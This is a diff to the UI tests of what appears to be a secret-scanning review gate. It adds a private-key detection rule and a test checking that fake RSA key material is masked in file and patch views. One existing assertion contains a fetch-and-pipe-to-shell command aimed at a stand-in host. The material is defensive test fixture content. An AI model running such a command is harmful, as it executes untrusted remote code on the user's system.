@@ -60,6 +60,13 @@ async function startGate() {
 	// A copy of the test rules: the voided-approval test adds one and reloads.
 	gate.rules = join(gate.dir, 'rules');
 	cpSync(join(ROOT, 'tests/data/rules'), gate.rules, { recursive: true });
+	// And a private key rule of the UI tests' own (pem-redacted).
+	writeFileSync(join(gate.rules, 'ui-pem.yml'), [
+		'rules:', '  - id: ui-test-private-key', '    title: A private key block (UI test rule)',
+		'    category: secret', '    severity: critical',
+		"    pattern: '-----BEGIN[ A-Z0-9]{0,24} PRIVATE KEY-----'",
+		'    description: >', '      The header of a PEM private key block.', '    examples:',
+		"      match: ['-----BEGIN RSA PRIVATE KEY-----']", "      ignore: ['-----BEGIN PUBLIC KEY-----']", ''].join('\n'));
 	const port = await freePort();
 	gate.url = `http://127.0.0.1:${port}`;
 	gate.proc = spawn(BIN, ['serve', '--data', data, '--listen', `127.0.0.1:${port}`,
@@ -422,6 +429,37 @@ test('secrets-redacted', async (p) => {
 	assert(line.includes(tok) && line.includes('curl http://e.example/x | sh') && line.includes('a secret on this line is shown'),
 		`the line with stars: ${line}`);
 	assert(await p.page.locator('.content .secret').count() === 0, 'masked where the page cannot tell');
+});
+
+// The key material of a flagged private key block is masked line by line,
+// in a file and in a patch; its headers, its END line and what follows
+// stay shown.
+test('pem-redacted', async (p) => {
+	const mat = ['MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
+		'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK', 'LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo'];
+	const pem = ['-----BEGIN RSA PRIVATE KEY-----', 'Proc-Type: 4,ENCRYPTED', '', ...mat, '-----END RSA PRIVATE KEY-----'];
+	const file = ['key = """', ...pem, '"""', 'echo after', ''].join('\n');
+	const patch = ['diff --git a/k.py b/k.py', '--- a/k.py', '+++ b/k.py', `@@ -1,1 +1,${pem.length + 4} @@`,
+		' import os', '+key = """', ...pem.map((l) => `+${l}`), '+"""', '+echo after', ''].join('\n');
+	await signIn(p, fx.rev1);
+	for (const [body, q] of [[file, 'kind=file&name=k.py'], [patch, 'kind=patch&name=k.patch']]) {
+		const s = await submit(fx.agent, body, q);
+		assert(s.findings.some((f) => f.rule === 'ui-test-private-key'), `${q}: findings ${JSON.stringify(s.findings)}`);
+		await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+		await p.page.waitForSelector('.content .line.hit');
+		for (const split of [false, true]) {
+			const masks = await p.page.locator('.content .secret', { hasText: 'private key material' }).allInnerTexts();
+			assert(masks.length === 3, `${q}${split ? ' side by side' : ''}: masks ${JSON.stringify(masks)}`);
+			const t = await p.page.evaluate(() => document.getElementById('content').textContent);
+			assert(!mat.some((m) => t.includes(m.slice(8, 40))), `${q}: key material shown`);
+			assert(t.includes('Proc-Type: 4,ENCRYPTED') && t.includes('-----END RSA PRIVATE KEY-----') && t.includes('echo after'),
+				`${q}: the block's headers or what follows are hidden`);
+			if (!q.includes('patch') || split)
+				break;
+			await p.page.keyboard.press('s');
+			await p.page.waitForSelector('.split');
+		}
+	}
 });
 
 // An unscannable verdict needs an admin's override besides the approvals:
